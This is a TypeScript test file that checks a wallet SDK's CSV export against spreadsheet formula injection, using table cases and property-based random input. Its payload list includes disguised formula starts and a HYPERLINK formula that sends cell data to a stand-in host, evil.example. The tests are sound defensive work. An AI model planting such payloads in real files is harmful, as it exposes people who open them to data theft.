// The CSV export against formula injection (outside finding 8): every cell quoted, and no cell a spreadsheet
// could take for a formula, however its start is disguised. Table cases from the finding, then random text.
import type { Transaction } from '@agent-wallet/sdk';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { CSV_COLUMNS, csvCell, startsFormula, transactionsCsv } from '../src/csv.ts';

/** RFC 4180 as a spreadsheet reads it: quoted cells may hold commas, quotes (doubled) and line breaks. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let i = 0;
  while (i < text.length) {
    expect(text[i], `cell at ${i} is not quoted`).toBe('"');
    let cell = '';
    i += 1;
    for (;;) {
      const end = text.indexOf('"', i);
      expect(end, 'unterminated quote').toBeGreaterThanOrEqual(0);
      cell += text.slice(i, end);
      if (text[end + 1] === '"') {
        cell += '"';
        i = end + 2;
      } else {
        i = end + 1;
        break;
      }
    }
    row.push(cell);
    if (text[i] === ',') i += 1;
    else {
      expect(text.slice(i, i + 2)).toBe('\r\n');
      rows.push(row);
      row = [];
      i += 2;
    }
  }
  return rows;
}

/** Characters a spreadsheet may see past at the start of a cell (the test's own list, not the code's). */
function isPassedOver(char: string): boolean {
  return /[\s\p{Cf}\p{Cc}\p{Zs}\u00a0\u180e\u200b-\u200f\u2028-\u202f\u205f-\u206f\ufeff;|,]/u.test(char);
}

/** The oracle: does this cell's text, read as a spreadsheet would, open a formula? */
function opensFormula(cell: string): boolean {
  if (/^-?(0|[1-9][0-9]*)(\.[0-9]+)?$/.test(cell)) return false; // a plain number, negative or not
  if (/^[\t\r]/.test(cell)) return true;
  const chars = [...cell.normalize('NFKC')];
  const first = chars.find((char) => !isPassedOver(char));
  return first !== undefined && '=+-@\u2212'.includes(first);
}

const DISGUISED = [
  '=1+1',
  '+1',
  '-1+1',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  ';=1+1',
  '|=1+1',
  ',=1+1',
  ';;+cmd',
  '＝1+1', // full-width equals (U+FF1D)
  '＋1', // full-width plus
  '－1', // full-width hyphen-minus
  '＠SUM(A1)', // full-width commercial at
  '﹦1', // small equals (U+FE66)
  '⁼1', // superscript equals
  '−1+1', // minus sign (U+2212)
  ' =1+1',
  '   =1+1',
  '\u00a0=1+1', // NBSP
  '\u200b=1+1', // zero-width space
  '\u200d=1', // zero-width joiner
  '\u2060=1', // word joiner
  '\ufeff=1', // BOM
  '\u3000=1', // ideographic space
  '\u2028=1', // line separator
  '\n=1',
  '\u0000=1',
  ' \u00a0\u200b;＝HYPERLINK("http://x")',
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
];

describe('the CSV export against formula injection', () => {
  it.each(DISGUISED)('defuses %j: the cell starts with a quote mark', (memo) => {
    expect(startsFormula(memo)).toBe(true);
    expect(csvCell(memo)).toBe(`"'${memo.replace(/"/g, '""')}"`);
    expect(opensFormula(parseCsv(`${csvCell(memo)}\r\n`)[0]![0]!)).toBe(false);
  });

  it('leaves ordinary text and exact numbers as they are, quoted', () => {
    for (const text of [
      'plain',
      'Invoice 42',
      'a=b',
      '1+1',
      "'quoted",
      '',
      'ü = ae',
      '5.000000',
      '-5.000000',
      '0',
    ]) {
      expect(startsFormula(text), text).toBe(false);
      expect(csvCell(text)).toBe(`"${text}"`);
    }
    expect(csvCell(-5)).toBe('"-5"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('two\r\nlines')).toBe('"two\r\nlines"');
  });

  it('defuses what only looks like a number', () => {
    for (const text of ['-5.0.0', '-5e3', '-0x10', '-5,0', '- 5', '-', '-.5', '+5']) {
      expect(startsFormula(text), text).toBe(true);
    }
  });

  // Random text, with formula characters, their disguises and separators over-represented at the start.
  const tricky = fc.constantFrom(
    '=',
    '+',
    '-',
    '@',
    '\t',
    '\r',
    '\n',
    ';',
    '|',
    ',',
    '"',
    "'",
    ' ',
    '\u00a0',
    '\u200b',
    '\ufeff',
    '＝',
    '＋',
    '－',
    '＠',
    '﹦',
    '−',
    '5',
    '.',
    '\u0000',
  );
  const char = fc.oneof(tricky, fc.string({ unit: 'binary', minLength: 1, maxLength: 1 }));
  const cellText = fc.oneof(
    fc.string({ unit: char, maxLength: 12 }),
    fc.string({ unit: 'binary', maxLength: 20 }),
    fc.double({ noNaN: true }).map(String),
  );

  it('property: no exported cell opens a formula, and every cell reads back as written (a defusing quote aside)', () => {
    fc.assert(
      fc.property(fc.array(cellText, { minLength: 1, maxLength: 6 }), (cells) => {
        const line = `${cells.map(csvCell).join(',')}\r\n`;
        const [parsed] = parseCsv(line);
        expect(parsed).toHaveLength(cells.length);
        parsed!.forEach((cell, index) => {
          expect(opensFormula(cell), JSON.stringify(cell)).toBe(false);
          const original = cells[index]!;
          expect(cell === original || cell === `'${original}`).toBe(true);
        });
      }),
      { numRuns: 3000 },
    );
  });

  it('property: a whole export has one quoted cell per column on every line, none opening a formula', () => {
    // A paid request's receipt is the seller's text: as open to a formula as a memo.
    const transaction = fc.record({
      memo: cellText,
      reason: cellText,
      label: cellText,
      receipt: fc.option(cellText),
      paid: fc.boolean(),
    });
    fc.assert(
      fc.property(fc.array(transaction, { maxLength: 4 }), (items) => {
        const rows = items.map(({ memo, reason, label, receipt, paid }, index) => ({
          tx: {
            ...(paid
              ? { type: 'x402', protocol: 'mpp', scheme: 'charge', authorizedAmount: '1.000000', receipt }
              : { type: 'payment' }),
            id: `tx_${index}`,
            walletId: 'w',
            status: 'completed',
            amount: '1.000000',
            currency: 'USDC',
            toAddress: `0x${'ab'.repeat(20)}`,
            memo,
            reason,
            rail: 'sandbox',
            txHash: null,
            rejectionReason: null,
            violations: null,
            initiatedBy: 'key:k',
            expiresAt: null,
            resource: null,
            createdAt: '2026-05-12T10:00:00.000Z',
            updatedAt: '2026-05-12T10:00:00.000Z',
          } as Transaction,
          walletName: label,
        }));
        const parsed = parseCsv(transactionsCsv(rows, new Map()));
        expect(parsed).toHaveLength(items.length + 1);
        for (const line of parsed) {
          expect(line).toHaveLength(CSV_COLUMNS.length);
          for (const cell of line) expect(opensFormula(cell), JSON.stringify(cell)).toBe(false);
        }
      }),
      { numRuns: 500 },
    );
  });
});
